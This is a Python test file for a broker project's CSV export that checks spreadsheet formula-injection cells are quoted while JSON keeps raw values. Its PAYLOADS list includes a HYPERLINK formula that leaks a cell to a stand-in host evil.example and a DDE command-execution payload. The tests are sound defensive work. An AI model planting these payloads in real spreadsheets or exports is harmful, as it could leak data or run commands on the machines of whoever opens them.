"""CSV formula injection (OWASP): every CSV the broker writes neutralises cells a
spreadsheet would evaluate, and only the CSV (JSON and JSON Lines keep the values)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator

import pytest

from broker.core.csv_cells import FORMULA_TRIGGERS, csv_cell, csv_row, list_cell, split_list
from broker.flows.audit import EXPORT_COLUMNS, TransferFilter, export_transfers
from broker.flows.disclosures import DisclosureRequest, record_disclosure
from broker.flows.user_report import CSV_COLUMNS, user_report, user_report_csv
from broker.runtime import Runtime, build_runtime
from broker.store.db import session_scope
from broker.store.models import Connection, Transfer, TransferCategory

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # FULLWIDTH EQUALS SIGN
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_cells_that_start_a_formula_get_a_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "plain", "user-1", "1e3", "a=b", " =1", "'already", "ann@example.com", "[1]"]
)
def test_other_cells_are_left_alone(text: str) -> None:
    assert csv_cell(text) == text


@pytest.mark.parametrize(
    ("items", "cell"),
    [
        ([], ""),
        (["user.name"], "user.name"),
        (["user.name", "user.contact.email"], "user.name; user.contact.email"),
        (["author.name", "to.email", "x"], "author.name; to.email; x"),
        (["a;b", "c"], "a\\;b; c"),
        (["back\\slash", "d"], "back\\\\slash; d"),
        ([1, 2], "1; 2"),
    ],
)
def test_lists_are_semicolon_separated_cells(items: list, cell: str) -> None:
    assert list_cell(items) == cell
    assert split_list(cell) == [str(i) for i in items]


def test_the_triggers_are_owasps() -> None:
    assert set("=+-@\t\r") <= FORMULA_TRIGGERS
    assert csv_row(["=1", "ok"]) == ["'=1", "ok"]


@pytest.fixture
def rt(make_settings) -> Iterator[Runtime]:
    runtime = build_runtime(make_settings(), plugins=[], upgrade=True)
    yield runtime
    runtime.close()


def _body(text: str) -> str:
    """The CSV after its ``#`` lines (when, by whom, from which log state)."""
    lines = text.splitlines(keepends=True)
    assert lines and lines[0].startswith("# generated_at: "), lines[:1]
    return "".join(line for line in lines if not line.startswith("#"))


def _cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(_body(text))))
    return [cell for row in rows[1:] for cell in row]


def _assert_no_formula(text: str) -> None:
    for cell in _cells(text):
        assert not cell or cell[0] not in FORMULA_TRIGGERS, cell


def test_transfers_export_neutralises_every_cell(rt: Runtime) -> None:
    user = "-1+1"  # a valid user id that a spreadsheet reads as a formula
    with session_scope(rt.engine) as session:
        session.add(Connection(id="conn_1", user_id=user, connector_id="=evil", status="active"))
        session.flush()
        session.add(
            Transfer(
                id="tr_1",
                connection_id="conn_1",
                user_id=user,
                connector_id="=evil",
                action="@post",
                purpose=PAYLOADS[0],
                status="failed",
                categories=["user.name"],
                field_paths=["author.name"],
                dropped=[],
                attempts=[],
                destination="+api.example.com/x",
                reason="\t=1+1",
                response_id="=2",
                idempotency_key="-k",
                actor="@admin",
            )
        )
        session.flush()
        session.add(TransferCategory(transfer_id="tr_1", category="user.name"))
    text = "".join(export_transfers(rt, TransferFilter(), "csv"))
    _assert_no_formula(text)
    (row,) = list(csv.DictReader(io.StringIO(_body(text))))
    assert row["user_id"] == "'-1+1" and row["purpose"] == "'" + PAYLOADS[0]
    assert list(row) == list(EXPORT_COLUMNS)
    assert row["categories"] == "user.name" and row["dropped"] == "" and row["attempts"] == ""
    # JSON Lines carries the values as they are
    (line,) = "".join(export_transfers(rt, TransferFilter(), "jsonl")).splitlines()
    assert json.loads(line)["user_id"] == user and json.loads(line)["reason"] == "\t=1+1"


def test_disclosure_report_neutralises_every_cell(rt: Runtime) -> None:
    record_disclosure(
        rt,
        DisclosureRequest(
            user_id="+49-30-1234",
            recipient=PAYLOADS[0],
            categories=("user.name",),
            legal_basis="legal_obligation",
            reference="@SUM(A1:A9)",
            purpose="-cmd",
            field_paths=("=x.name",),
        ),
        actor="admin",
    )
    report = user_report(rt, "+49-30-1234")
    text = user_report_csv(report)
    _assert_no_formula(text)
    (row,) = list(csv.DictReader(io.StringIO(_body(text))))
    assert list(row) == list(CSV_COLUMNS)
    assert row["recipient"] == "'" + PAYLOADS[0]
    assert row["reference"] == "'@SUM(A1:A9)" and row["purpose"] == "'-cmd"
    assert row["field_paths"] == "'=x.name"
    # the JSON report keeps the values
    (d,) = report["disclosures"]
    assert d["recipient"] == PAYLOADS[0] and d["reference"] == "@SUM(A1:A9)"
